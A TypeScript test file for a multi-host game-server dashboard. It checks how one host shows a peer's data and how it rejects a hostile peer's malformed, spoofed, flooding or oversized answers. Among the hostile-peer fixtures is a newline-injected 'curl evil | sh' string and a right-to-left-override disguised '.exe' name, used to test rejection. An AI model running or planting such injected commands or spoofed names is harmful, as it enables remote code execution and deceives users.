/** One page of several hosts: what their berth-webs say, what happens without them, and what a hostile one can do. */
import { spawn } from "node:child_process";
import { once } from "node:events";
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it, onTestFinished, vi } from "vitest";
import type {
  BerthDetail,
  Overview,
  Patch,
  Quiet,
  Series,
  StreamTimeline,
  Timeline,
} from "../../packages/web/src/api/shapes.ts";
import { MAX_BYTES } from "../../packages/web/src/peers/peer-client.ts";
import { Peers } from "../../packages/web/src/peers/peers.ts";
import { packageRoot } from "../../src/native.ts";
import { type BrokerProcess, spawnBroker } from "../support/broker.ts";
import { EventStream } from "../support/web/event-stream.ts";
import { ask, askJson, runWeb, startWeb, type WebProcess } from "../support/web/web-process.ts";
import { endsWithTest } from "../support/wrap.ts";
import { madeUpBerth, madeUpHost } from "./page/support/made-up.ts";

const isRoot = process.getuid?.() === 0;
const server = `[server]\ncommand = ["sleep", "600"]\n${isRoot ? 'user = "nobody"' : ""}\n`;
const arena = `[sockets.game]\nlisten = ["udp://127.0.0.1:0"]\n${server}`;

describe("two hosts on one page", { timeout: 60_000 }, () => {
  let brokers: BrokerProcess[];
  let first: WebProcess;
  let second: WebProcess;
  let secondArgs: string[];

  beforeAll(async () => {
    const [one, two] = await Promise.all([
      spawnBroker({ "arena.toml": arena }),
      spawnBroker({ "arena.toml": arena, "tanks@.toml": arena, "tanks@1.toml": "" }),
    ]);
    brokers = [one, two];
    one.folder.write({ token: "0123456789abcdef0123456789abcdef\n" });
    const token = join(one.folder.path, "token");
    secondArgs = ["--history", join(two.folder.path, "history.db"), "--token-file", token, "--public", "arena"];
    second = await startWeb(two.socket, secondArgs);
    first = await startWeb(one.socket, ["--peer", `h2=${second.base}`, "--peer-token-file", token]);
    await vi.waitFor(async () => {
      const { hosts } = await overview();
      expect(hosts.map(({ version }) => version)).toEqual([expect.any(String), expect.any(String)]);
    }, 30_000);
  }, 60_000);
  afterAll(async () => {
    await first?.[Symbol.asyncDispose]();
    await second?.[Symbol.asyncDispose]();
    for (const broker of brokers ?? []) await broker[Symbol.asyncDispose]();
  });

  const overview = (): Promise<Overview> => askJson<Overview>(first, "/api/v1/overview");

  it("shows the berths of both, each below the name of its host", async () => {
    const { hosts, berths } = await overview();
    const own = hosts[0]?.id ?? "";
    expect(hosts.map(({ id, unreachableSince }) => [id, unreachableSince])).toEqual([
      [own, null],
      ["h2", null],
    ]);
    expect(berths.map(({ host, name }) => `${host}/${name}`).sort()).toEqual(
      [`${own}/arena`, "h2/arena", "h2/tanks@1"].sort(),
    );
  });

  it("a berth of the other host has its detail, plots, timeline and quiet hours from there", async () => {
    const detail = await askJson<BerthDetail>(first, "/api/v1/berths/h2/tanks@1");
    expect(detail).toMatchObject({ host: "h2", name: "tanks@1", sockets: [{ name: "game" }], publicPage: null });
    expect(await askJson(first, "/api/v1/berths/h2/arena")).toMatchObject({ publicPage: `${second.base}/p/arena` });
    const series = await askJson<Series>(first, "/api/v1/berths/h2/arena/series?range=24h");
    expect(series.players.mean).toHaveLength(144);
    expect(await askJson<Timeline>(first, "/api/v1/berths/h2/arena/timeline?limit=5")).toMatchObject({ more: false });
    for (const [query, berth] of [
      ["host=h2", null],
      ["berth=h2/arena", "h2/arena"],
    ]) {
      expect(await askJson<Quiet>(first, `/api/v1/quiet?${query}`)).toMatchObject({ host: "h2", berth, enough: false });
    }
    for (const path of ["berths/h2/none", "berths/h2/none/series", "berths/h2/arena/more", "berths/h3/arena"]) {
      expect([path, (await ask(first, `/api/v1/${path}`)).status]).toEqual([path, 404]);
    }
    expect((await ask(first, "/api/v1/quiet?berth=h2")).status).toBe(400);
    // The metrics are those of this host: Prometheus asks each host itself.
    expect((await ask(first, "/metrics")).body).not.toContain("tanks@1");
  });

  it("tells open pages what happens there", async () => {
    using stream = new EventStream(first.port);
    await stream.until(({ name }) => name === "state");
    const [command = "", ...rest] = [...endsWithTest, process.execPath, join(packageRoot, "dist/berth/berth.cjs")];
    const run = spawn(command, [...rest, "run", "--socket", brokers[1]?.socket ?? "", "arena"], { stdio: "ignore" });
    await stream.until(({ name, data }) => {
      const isOf = (one: Patch["berths"][number]): boolean =>
        one.host === "h2" && one.name === "arena" && one.state === "serving";
      return name === "patch" && (data as Patch).berths.some(isOf);
    });
    const told = await stream.until(({ name }) => name === "timeline");
    expect(told.data as StreamTimeline).toMatchObject({ host: "h2", name: "arena", event: { kind: "lease" } });
    const closed = once(run, "close");
    run.kill("SIGKILL");
    await closed;
  });

  it("keeps what it knew of a host that is away, and finds it again", async () => {
    await second[Symbol.asyncDispose]();
    await expect
      .poll(async () => (await overview()).hosts[1], { timeout: 20_000 })
      .toMatchObject({
        id: "h2",
        unreachableSince: expect.any(Number),
        nextTry: expect.any(Number),
      });
    expect((await overview()).berths).toHaveLength(3);
    expect((await ask(first, "/healthz")).status).toBe(200);
    const { status, body } = await ask(first, "/api/v1/berths/h2/arena");
    expect([status, JSON.parse(body)]).toMatchObject([502, { error: { message: /^host h2 gives no answer: / } }]);
    const { port } = second;
    const options = ["--listen", `127.0.0.1:${port}`, "--socket", brokers[1]?.socket ?? "", ...secondArgs];
    const again = spawn(process.execPath, [join(packageRoot, "packages/web/dist/server/main.js"), ...options], {
      stdio: "ignore",
    });
    onTestFinished(async () => {
      const closed = once(again, "close");
      again.kill("SIGKILL");
      await closed;
    });
    await expect.poll(async () => (await overview()).hosts[1]?.unreachableSince, { timeout: 40_000 }).toBeNull();
    expect(first.log()).toMatch(/peer h2 at \S+ does not answer: .*\n.*peer h2 answers/s);
  });
});

const credentials = { token: undefined, ca: undefined, cert: undefined, key: undefined };
const spark = Array.from({ length: 48 }, () => null);
const host = madeUpHost("theirs", { spark });
const state: Overview = { at: 1, hosts: [host], berths: [madeUpBerth("theirs", "arena", { spark })] };

/** A peer that answers as told, and what is seen of it. */
async function peerThat(answers: (request: IncomingMessage, response: ServerResponse) => void) {
  const http = createServer(answers);
  await once(http.listen(0, "127.0.0.1"), "listening");
  const said: string[] = [];
  const told: StreamTimeline[] = [];
  const url = new URL(`http://127.0.0.1:${(http.address() as AddressInfo).port}/`);
  const peers = new Peers([{ name: "h2", url }], credentials, {
    say: (message) => said.push(message),
    timeline: (happened) => told.push(happened),
  });
  peers.start();
  onTestFinished(async () => {
    await peers.close();
    http.close();
    http.closeAllConnections();
  });
  return { peers, said, told };
}

function events(response: ServerResponse, ...list: readonly (readonly [string, unknown])[]): void {
  response.writeHead(200, { "content-type": "text/event-stream" });
  for (const [name, data] of list) response.write(`event: ${name}\ndata: ${JSON.stringify(data)}\n\n`);
}

describe("a hostile peer", { timeout: 60_000 }, () => {
  const berth = state.berths[0];
  it.each<[string, unknown]>([
    ["a state without berths", { ...state, berths: undefined }],
    ["a berth of an unknown state", { ...state, berths: [{ ...berth, state: "dancing" }] }],
    ["text that ends a line", { ...state, berths: [{ ...berth, cause: "x\ncurl evil | sh" }] }],
    ["text that turns the direction", { ...state, berths: [{ ...berth, map: "\u202egnp.exe" }] }],
    ["a very long text", { ...state, berths: [{ ...berth, map: "x".repeat(5000) }] }],
    ["no host", { ...state, hosts: [] }],
    ["a number", 5],
  ])("%s is not taken, and the log says why", async (_, data) => {
    const { peers, said } = await peerThat((_, response) => events(response, ["state", data]));
    await vi.waitFor(() => expect(said[0]).toMatch(/^peer h2 at \S+ does not answer: it is not understood: /), 10_000);
    expect(peers.rows).toEqual([]);
    expect(peers.hosts[0]).toMatchObject({ id: "h2", unreachableSince: expect.any(Number) });
  });

  it("speaks for no other host, and names none", async () => {
    const others = [madeUpBerth("h1", "stolen", { spark }), madeUpBerth("h3", "stolen", { spark })];
    const { peers, told } = await peerThat((_, response) =>
      events(
        response,
        ["state", { ...state, hosts: [host, madeUpHost("h1")], berths: [...state.berths, ...others] }],
        ["patch", { at: 2, hosts: [madeUpHost("h3")], berths: others, removed: [{ host: "h1", name: "x" }] }],
        ["timeline", { host: "h1", name: "x", event: { at: 1, kind: "crash", text: "x", detail: null } }],
        ["timeline", { host: "theirs", name: "arena", event: { at: 1, kind: "crash", text: "y", detail: null } }],
      ),
    );
    await vi.waitFor(() => expect(told).toHaveLength(1), 10_000);
    expect(told[0]).toMatchObject({ host: "h2", name: "arena" });
    expect(peers.rows.map(({ host: of, name }) => [of, name])).toEqual([["h2", "arena"]]);
    expect(peers.hosts.map(({ id }) => id)).toEqual(["h2"]);
  });

  it("a newer one may say more, and its rows change field by field", async () => {
    const { peers } = await peerThat((_, response) =>
      events(
        response,
        ["state", { ...state, weather: "fine", berths: [{ ...berth, shoes: 2 }] }],
        ["patch", { at: 2, hosts: [], berths: [{ host: "theirs", name: "arena", players: 7 }], removed: [] }],
      ),
    );
    await vi.waitFor(() => expect(peers.rows[0]?.players).toBe(7), 10_000);
    expect(peers.rows[0]).toEqual({ ...berth, host: "h2", players: 7 });
  });

  it("an event without an end is cut off", async () => {
    const { said } = await peerThat((_, response) => {
      events(response);
      const block = `data: ${"x".repeat(65_536)}\n`;
      const fill = (): void => {
        while (response.write(block));
        response.once("drain", fill);
      };
      fill();
    });
    await vi.waitFor(() => expect(said[0]).toContain("larger than 4 MiB"), 30_000);
  });

  it("thousands of events a second are taken a hundred a second", async () => {
    let players = 0;
    const { peers } = await peerThat((_, response) => {
      events(response, ["state", state]);
      for (; players < 5_000; players++) {
        const patch = { at: 2, hosts: [], berths: [{ host: "theirs", name: "arena", players }], removed: [] };
        response.write(`event: patch\ndata: ${JSON.stringify(patch)}\n\n`);
      }
    });
    await vi.waitFor(() => expect(peers.rows[0]?.players ?? 0).toBeGreaterThan(50), 10_000);
    const before = peers.rows[0]?.players ?? 0;
    await new Promise((resolve) => setTimeout(resolve, 300));
    // Of 5,000, which take no 100 ms.
    expect((peers.rows[0]?.players ?? 0) - before).toBeLessThan(1_000);
  });

  it("an answer of another shape, size or status is none", async () => {
    let answer: [number, string] = [200, "{}"];
    const { peers } = await peerThat((request, response) => {
      if (request.url === "/api/v1/events") return events(response, ["state", state]);
      response.writeHead(answer[0], { location: "http://127.0.0.1:1/" }).end(answer[1]);
    });
    await vi.waitFor(() => expect(peers.rows).toHaveLength(1), 10_000);
    const detail = () => peers.berth("h2", "arena", undefined, new URLSearchParams());
    for (const [status, text] of [
      [200, "{}"],
      [200, "[".repeat(100_000)],
      [200, `"${"x".repeat(MAX_BYTES)}"`],
      [200, "no JSON"],
      [302, "elsewhere"],
      [500, "no JSON"],
      // That this page has no token is no news for its reader.
      [401, JSON.stringify({ error: { code: "denied", message: "a token is needed" } })],
    ] as const) {
      answer = [status, text];
      expect([text.slice(0, 20), (await detail()).status]).toEqual([text.slice(0, 20), 502]);
    }
    answer = [404, JSON.stringify({ error: { code: "not-found", message: "there is no such berth" } })];
    expect((await detail()).status).toBe(404);
  });
});

describe("the options for peers", () => {
  it.each([
    [["--peer", "h2"], "write NAME=URL"],
    [["--peer", "h2=h2.example:9115"], "write NAME=URL"],
    [["--peer", "h2=https://me:secret@h2.example"], "--peer-token-file"],
    [["--peer", "h2=http://a", "--peer", "h2=http://b"], "names two hosts"],
    [["--peer", "h2=http://192.0.2.1:9115", "--peer-token-file", "x"], "clear text"],
    [["--peer", "h2=https://a", "--peer-cert", "x"], "go together"],
    [["--peer-ca", "x"], "need --peer"],
  ])("%j is refused: %s", async (args, why) => {
    const { code, err } = await runWeb(args);
    expect([code, err]).toEqual([100, expect.stringContaining(why)]);
  });

  it("names the file that it cannot read", async () => {
    const { code, err } = await runWeb(["--peer", "h2=https://a", "--peer-ca", "/nowhere/ca.pem"]);
    expect([code, err]).toEqual([111, expect.stringContaining("--peer-ca /nowhere/ca.pem cannot be read")]);
  });
});
